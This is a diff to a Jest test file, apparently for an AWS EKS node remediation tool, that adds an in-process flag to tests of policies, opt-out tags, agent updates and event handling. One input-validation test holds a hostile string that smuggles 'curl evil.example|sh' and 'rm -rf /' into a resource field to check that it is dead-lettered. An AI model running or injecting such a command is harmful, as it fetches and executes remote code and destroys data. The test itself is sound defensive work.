@@ -10,7 +10,7 @@ describe('policy and tags', () => {
     ['kill switch', { killSwitch: true }, 'skipped kill-switch'],
     ['unknown key', { ssmAgents: {} }, 'refused policy-invalid'],
   ])('%s: nothing is changed, and that is recorded once', async (_what, policy, last) => {
-    const run = await playThrough({ ...launch('nodeGroup', { managedPolicy: false }), policy });
+    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { managedPolicy: false }), policy });
     expect(outcomes(run).at(-1)).toBe(last);
     expect(outcomes(run).filter((line) => line === last)).toHaveLength(1);
     expect(changes(run)).toEqual([]);
@@ -18,6 +18,7 @@ describe('policy and tags', () => {
 
   it('Default Host Management cures a missing profile where the policy allows it', async () => {
     const run = await playThrough({
+      inProcess: true,
       ...launch('nodeGroup', { instanceProfile: false }),
       policy: { ssmAgent: { remedies: { defaultHostManagement: 'enforce' } } },
     });
@@ -41,7 +42,11 @@ it('a role that has its rights from an older policy of AWS gets none besides: th
 });
 
 it('what is wrong besides the cause that is cured is told at once', async () => {
-  const run = await playThrough({ ...launch('nodeGroup', { managedPolicy: false, network: 'none' }), play: '3h' });
+  const run = await playThrough({
+    inProcess: true,
+    ...launch('nodeGroup', { managedPolicy: false, network: 'none' }),
+    play: '3h',
+  });
   const begun = ours(run).find(({ reason }) => reason === 'policy-attached');
   expect(begun?.message).toMatch(/Also: No way to Systems Manager is found: subnet subnet-\w+ has no default route/);
   expect(outcomes(run).slice(-2)).toEqual(['failed role-lacks-ssm', 'failed no-network-path']);
@@ -52,7 +57,12 @@ describe('an old agent', () => {
     ['opted out', { tags: { 'eks-host-remediator:ignore': 'true' } }, {}, 'opted out by its tag'],
     ['is out of scope', {}, { scope: { clusters: ['other'] } }, 'The scope leaves out shop'],
   ])('whose cluster %s is not updated, and that is recorded once', async (_what, cluster, policy, why) => {
-    const run = await playThrough({ ...launch('nodeGroup', { latest: false }, cluster), policy, play: '3h' });
+    const run = await playThrough({
+      inProcess: true,
+      ...launch('nodeGroup', { latest: false }, cluster),
+      policy,
+      play: '3h',
+    });
     expect(outcomes(run)).toEqual(['done agent-verified']);
     expect(ours(run)[0]?.message).toContain(why);
     expect(changes(run)).toEqual([]);
@@ -62,13 +72,14 @@ describe('an old agent', () => {
 describe('an update of the agent', () => {
   it('in mode observe is proposed, once', async () => {
     const policy = { ssmAgent: { mode: 'observe' } };
-    const run = await playThrough({ ...launch('nodeGroup', { latest: false }), policy, play: '3h' });
+    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', { latest: false }), policy, play: '3h' });
     expect(outcomes(run)).toEqual(['would-act would-remedy']);
     expect(changes(run)).toEqual([]);
   });
 
   it('that fails is tried as often as the policy allows, and its incident is never closed', async () => {
     const run = await playThrough({
+      inProcess: true,
       ...launch('nodeGroup', { latest: false, commands: { updateFails: 'Failed', times: 9 } }),
       policy: { ssmAgent: { retryAfter: '15m', attempts: 2 } },
       play: '3h',
@@ -98,13 +109,13 @@ describe('hints', () => {
         },
       ],
     };
-    const run = await playThrough({ fleet, play: '2h' });
+    const run = await playThrough({ inProcess: true, fleet, play: '2h' });
     expect(outcomes(run).sort()).toEqual(['acted policy-attached', 'done agent-cured', 'skipped auto-mode'].sort());
   });
 
   it('an instance that is no worker, look-alike tags or not, costs no record and no act', async () => {
     const event = { ...coverage, resources: ['i-0123456789abcdef0'] };
-    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
+    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
     expect(outcomes(run)).toEqual(['done agent-verified']);
     expect(deadLetterCount(run)).toBe(0);
   });
@@ -112,7 +123,7 @@ describe('hints', () => {
   it('a text that is no instance id goes to the dead-letter queue, and reaches nothing else', async () => {
     const hostile = '$(curl evil.example|sh)"; rm -rf / #';
     const event = { ...coverage, resources: [hostile] };
-    const run = await playThrough({ ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
+    const run = await playThrough({ inProcess: true, ...launch('nodeGroup', {}), events: [{ after: 0, event }] });
     expect(deadLetterCount(run)).toBe(1);
     expect(JSON.stringify(run.calls.filter(({ service }) => service !== 'sqs'))).not.toContain('evil.example');
     expect(run.records.find(({ reason }) => reason === 'invalid-event')?.message).toContain('resources.0');
